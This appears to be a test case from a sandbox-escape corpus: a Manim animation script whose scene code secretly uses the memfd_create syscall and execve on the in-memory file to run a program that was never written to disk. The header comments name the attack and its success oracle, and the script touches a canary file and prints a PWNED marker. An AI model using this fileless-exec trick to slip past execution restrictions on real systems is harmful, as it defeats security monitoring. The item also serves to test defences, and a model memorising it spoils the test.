# ATTACK: exec
# SUCCESS: a program that never was a file: memfd_create and fexecve
# ORACLE: generic, as for the other corpus
from manim import *

class S(Scene):
    def construct(self):
        import os, ctypes
        l = ctypes.CDLL(None, use_errno=True)
        f = l.syscall(319, b"x", 0)
        os.write(f, open("/bin/true", "rb").read()) if f > 0 else None
        if os.fork() == 0:
            os.execve(f, ["touch", "@CANARY@/pwned"], {})
        print("PWN" "ED-@NONCE@")
        self.add(Dot()); self.wait(0.1)
